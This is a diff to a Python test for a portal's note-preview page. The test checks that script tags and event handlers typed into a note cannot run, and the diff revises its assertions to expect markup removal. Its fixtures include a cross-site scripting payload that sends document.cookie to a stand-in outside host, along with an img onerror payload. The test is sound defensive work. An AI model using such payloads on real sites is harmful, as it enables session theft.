@@ -1,5 +1,6 @@
-"""A note's wording is typed by people outside the secretariat; the preview an officer opens shows it as text,
-and the page's policy would stop a script that got through anyway (issue 12, item 1)."""
+"""A note's wording is typed by people outside the secretariat; the preview an officer opens drops markup from
+the body (rich text keeps only its safe subset) and the page's policy would stop a
+script that got through anyway (issue 12, item 1)."""
 
 import re
 
@@ -17,7 +18,7 @@ SCRIPT = '<script>fetch("https://elsewhere.example/?" + document.cookie)</script
 HANDLER = '<img src="x" onerror="alert(document.domain)">'
 
 
-def test_a_script_in_a_notes_wording_is_shown_as_text_under_a_strict_policy(client, member, office, meeting, parties):
+def test_a_script_in_a_notes_wording_cannot_run_under_a_strict_policy(client, member, office, meeting, parties):
     note = helpers.draft(
         office,
         member,
@@ -37,6 +38,6 @@ def test_a_script_in_a_notes_wording_is_shown_as_text_under_a_strict_policy(clie
     # The only scripts are the portal's own files, and no element carries an event handler.
     assert re.findall(r"<script\b[^>]*>", html) == ['<script src="/static/correspondence/preview.js" defer>']
     assert not re.search(r"<[^>]+\son\w+\s*=", html)
-    assert "elsewhere.example" in html  # the wording is there, as text
-    assert "&lt;script&gt;fetch(" in html  # escaped by the sandbox, then shown as text
-    assert "&lt;img src=&#34;x&#34; onerror=" in html
+    assert "invite it." in html
+    assert "<script>fetch(" not in html
+    assert "onerror" not in html  # the body's markup is removed by the rich-text cleaner
